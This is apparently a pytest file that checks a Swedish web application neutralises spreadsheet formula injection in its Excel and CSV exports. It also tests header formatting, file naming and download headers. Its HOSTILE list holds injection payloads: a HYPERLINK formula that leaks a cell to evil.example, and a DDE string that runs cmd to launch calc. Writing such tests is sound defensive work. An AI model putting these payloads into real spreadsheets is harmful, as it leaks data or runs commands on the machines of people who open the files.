"""Spreadsheet cells that cannot act as formulas, and one place that writes every spreadsheet."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

from openpyxl import Workbook, load_workbook

from grannar.core.downloads import attachment, file_name
from grannar.core.spreadsheets import (
    DATE,
    MONEY,
    PERCENT,
    Column,
    Spreadsheet,
    csv_bytes,
    inert,
    workbook_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"Klicka")',
    "+46 cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[2] / "grannar"


def test_risky_text_gets_an_apostrophe_and_everything_else_stays():
    for value in HOSTILE:
        assert inert(value) == "'" + value
    for value in ["Anna", "1+1", "", "'=already", "a=b", "Ö-vik"]:
        assert inert(value) == value
    for value in [-3, 2.5, Decimal("-1.5"), None, dt.date(2025, 1, 2), True]:
        assert inert(value) is value


def test_workbook_cells_come_back_as_text_and_numbers_stay_numbers():
    book = Workbook()
    book.active.append(["Namn", "Timmar"])
    for value in HOSTILE:
        book.active.append([value, -2])
    second = book.create_sheet("Två")
    second["C3"] = "=1+1"
    read = load_workbook(io.BytesIO(workbook_bytes(book)))
    rows = list(read.worksheets[0].iter_rows(min_row=2))
    # XML turns a carriage return into a line feed; the apostrophe is what counts.
    expected = ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert [row[0].value for row in rows] == expected
    assert {row[0].data_type for row in rows} == {"s"}
    assert {(row[1].value, row[1].data_type) for row in rows} == {(-2, "n")}
    assert (read.worksheets[1]["C3"].value, read.worksheets[1]["C3"].data_type) == ("'=1+1", "s")


def test_csv_cells_are_prefixed_and_numbers_stay_bare():
    content = csv_bytes(["Namn", "Värde"], [[value, -2] for value in HOSTILE])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Namn", "Värde"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-2"}


def test_every_spreadsheet_is_written_through_core_spreadsheets():
    """Saving a workbook or writing CSV anywhere else would skip the neutralising."""
    csv_writer = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = []
    for path in ROOT.rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        makes_book = "Workbook(" in text and "workbook_bytes(" not in text
        if makes_book or csv_writer.search(text) or re.search(r"book\.save\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_every_sheet_gets_a_frozen_filtered_bold_header_and_fitting_widths():
    book = Workbook()
    book.active.append(["Namn", "Kommun"])
    book.active.append(["Anna Andersson-Lindqvist", "Göteborg"])
    book.active.append(["Bo", "x" * 200])
    book.create_sheet("Tom")
    read = load_workbook(io.BytesIO(workbook_bytes(book)))
    sheet = read.worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet["A1"].font.bold
    assert sheet["B1"].font.bold
    assert not sheet["A2"].font.bold
    assert sheet.column_dimensions["A"].width == len("Anna Andersson-Lindqvist") + 3
    assert sheet.column_dimensions["B"].width == 60  # a long cell wraps the view at a limit
    empty = read.worksheets[1]
    assert empty.auto_filter.ref is None


def test_a_spreadsheet_says_what_it_is_and_formats_its_numbers():
    book = Spreadsheet(
        title="Medfinansiering",
        programme="Nya GRannar (nya-grannar)",
        period="2026-12",
        made_by="Anna Admin",
    )
    book.note("Saknas", 3)
    sheet = book.sheet(
        "Data",
        [Column("Dag", DATE), Column("Andel", PERCENT), Column("Belopp", MONEY), Column("Text")],
    )
    sheet.append([dt.date(2026, 12, 1), 0.157, Decimal("1234567"), "=1+1"])
    read = load_workbook(io.BytesIO(book.xlsx()))
    about = read.worksheets[0]
    assert about.title == "Om filen"
    rows = dict(about.iter_rows(min_row=2, values_only=True))
    assert rows["Rapport"] == "Medfinansiering"
    assert rows["Program"] == "Nya GRannar (nya-grannar)"
    assert rows["Period"] == "2026-12"
    assert rows["Skapad av"] == "Anna Admin"
    assert isinstance(rows["Skapad"], dt.datetime)
    assert rows["Saknas"] == 3
    data = read["Data"]
    day, share, amount, text = data[2]
    assert (day.number_format, share.number_format, amount.number_format) == (DATE, PERCENT, MONEY)
    assert (share.data_type, amount.data_type) == ("n", "n")
    assert (share.value, amount.value) == (0.157, 1234567)
    assert text.value == "'=1+1"
    assert text.number_format == "General"
    # "1,234,567 kr" is 12 characters, plus room for the filter button.
    assert data.column_dimensions["C"].width == 15
    for sheet in read.worksheets:
        assert sheet.freeze_panes == "A2"
        assert (
            sheet.auto_filter.ref
            == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
        )


def test_file_names_are_lower_case_words_joined_by_hyphens():
    assert file_name("Närvaro", "nya-grannar", dt.date(2026, 12, 2), extension="xlsx") == (
        "närvaro-nya-grannar-2026-12-02.xlsx"
    )
    assert file_name("a/b", "", "c d..e", extension="pdf") == "a-b-c-d-e.pdf"


def test_a_download_has_an_ascii_name_and_the_real_one_for_modern_programs():
    response = attachment(b"x", filename="närvaro-2026.xlsx", content_type="text/plain")
    assert response["Content-Disposition"] == (
        "attachment; filename=\"narvaro-2026.xlsx\"; filename*=UTF-8''n%C3%A4rvaro-2026.xlsx"
    )
    plain = attachment(b"x", filename="deltagare-2026.xlsx", content_type="text/plain")
    assert plain["Content-Disposition"] == 'attachment; filename="deltagare-2026.xlsx"'
